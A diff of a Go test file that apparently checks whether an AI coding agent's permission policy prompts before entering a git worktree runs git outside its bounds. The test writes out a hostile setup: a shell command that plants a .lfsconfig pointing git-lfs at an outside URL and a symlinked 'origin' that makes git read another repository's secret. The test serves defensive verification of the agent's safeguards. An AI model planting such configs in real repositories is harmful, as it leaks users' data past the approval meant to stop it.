@@ -7,11 +7,8 @@
 package iso_test
 
 import (
-	"net/http"
-	"net/http/httptest"
 	"os/exec"
 	"strings"
-	"sync/atomic"
 	"testing"
 
 	"github.com/steward-setup/steward-setup/internal/agent/claude"
@@ -22,7 +19,7 @@ import (
 
 // TestEnteringAWorktreeRunsGitOutside: the agent enters a worktree, itself or for
 // another agent. git-lfs of the user's then asks the host that a command wrote into
-// .lfsconfig, and git fetches from another repository of the user's, where a
+// .lfsconfig, where nobody answers here, and git fetches from another repository of the user's, where a
 // command has put a symlink called origin. The rules of the policy have it ask,
 // and the launch adds them. Run with 2.1.329, git 2.39 and git-lfs 3.3; what is
 // remote with 2.1.330.
@@ -61,15 +58,8 @@ func TestEnteringAWorktreeRunsGitOutside(t *testing.T) {
 			l.git("init", "-q", "-b", "main", "../other")
 			l.git("-C", "../other", "add", "-A")
 			l.git("-C", "../other", "commit", "-q", "-m", "x")
-			var hits atomic.Int32
-			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-				if strings.HasPrefix(r.URL.Path, "/what-is-carried-out/") {
-					hits.Add(1)
-				}
-				w.WriteHeader(http.StatusNotFound)
-			}))
-			t.Cleanup(server.Close)
-			commit := "printf '[lfs]\\n url = " + server.URL + "/what-is-carried-out\\n' > .lfsconfig && " +
+			const url = "http://127.0.0.1:9/what-is-carried-out"
+			commit := "printf '[lfs]\\n url = " + url + "\\n' > .lfsconfig && " +
 				"printf '*.bin filter=lfs\\n' > .gitattributes && " +
 				"printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:" + strings.Repeat("ab", 32) +
 				"\\nsize 12\\n' > a.bin && git add .lfsconfig .gitattributes a.bin && " +
@@ -94,7 +84,7 @@ func TestEnteringAWorktreeRunsGitOutside(t *testing.T) {
 					t.Errorf("a prompt, want %v: %q", c.asked, said)
 				}
 			}
-			downloads, reads := hits.Load() > 0, strings.Contains(s.text(t, 5), secret)
+			downloads, reads := strings.Contains(s.text(t, 2), `Post "`+url+"/"), strings.Contains(s.text(t, 5), secret)
 			if downloads == c.asked || reads == c.asked {
 				t.Errorf("downloads %v, reads the other repository %v: %q", downloads, reads, s.text(t, 5))
 			}
